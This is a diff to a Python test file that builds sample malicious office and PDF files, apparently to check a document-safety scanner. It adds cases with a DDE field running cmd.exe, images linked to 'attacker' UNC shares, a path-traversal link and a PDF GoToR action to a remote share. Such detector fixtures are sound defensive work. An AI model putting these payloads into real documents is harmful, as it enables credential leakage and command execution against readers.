@@ -197,14 +197,20 @@ def _locked() -> bytes:
     return pdf(lambda writer: writer.encrypt("geheim", algorithm="RC4-128"))
 
 
-def _relation(kind: str, mode: str = "External") -> bytes:
+def _relation(kind: str, mode: str = "External", name: str = "word/_rels/settings.xml.rels") -> bytes:
     text = f'<Relationships><Relationship Id="x" Type="http://x/{kind}" Target="http://e" TargetMode="{mode}"/></Relationships>'
-    return changed(docx(), word___rels__settings_dot_xml_dot_rels=text)
+    return changed(docx(), **{name.replace("/", "__").replace(".", "_dot_"): text})
 
 
-def _field(text: str) -> bytes:
+def _linked(where: str) -> bytes:
+    """An ODT with a picture that lies somewhere else."""
+    text = f'<o:content xmlns:o="o" xmlns:d="d" xmlns:x="x"><d:image x:href="{where}"/></o:content>'
+    return changed(odt(), content_dot_xml=text)
+
+
+def _field(text: str, name: str = "word/footer9.xml") -> bytes:
     main = f'<w:document xmlns:w="w"><w:instrText>{text[:2]}</w:instrText><w:instrText>{text[2:]}</w:instrText></w:document>'
-    return changed(docx(), word__footer9_dot_xml=main)
+    return changed(docx(), **{name.replace("/", "__").replace(".", "_dot_"): main})
 
 
 def _macro_types() -> bytes:
@@ -252,6 +258,11 @@ DANGEROUS: dict[str, list[tuple[str, Callable[[], bytes]]]] = {
         ("template", lambda: _relation("attachedTemplate")),
         ("picture", lambda: _relation("image")),
         ("dde", lambda: _field("DDEAUTO c:\\cmd.exe")),
+        ("template, in capitals", lambda: _relation("attachedTemplate", name="WORD/_RELS/settings.xml.RELS")),
+        ("dde, in capitals", lambda: _field("DDEAUTO c:\\cmd.exe", name="word/footer9.XML")),
+        ("picture in the network", lambda: _linked("//attacker/share/a.png")),
+        ("picture of Windows' network", lambda: _linked("\\\\attacker\\share\\a.png")),
+        ("picture beside the document", lambda: _linked("../secret.png")),
     ],
     "script": [
         ("opens", lambda: pdf(_open_action("/JavaScript", JS="app.alert(1)"))),
@@ -261,6 +272,7 @@ DANGEROUS: dict[str, list[tuple[str, Callable[[], bytes]]]] = {
     "launch": [
         ("launch", lambda: pdf(_open_action("/Launch", F="cmd.exe"))),
         ("submit", lambda: pdf(_open_action("/SubmitForm"))),
+        ("file elsewhere", lambda: pdf(_open_action("/GoToR", F="\\\\attacker\\share"))),
     ],
     "attached": [("file", lambda: pdf(lambda writer: writer.add_attachment("a.exe", b"MZ")))],
     "media": [("rich", lambda: pdf(_rich))],
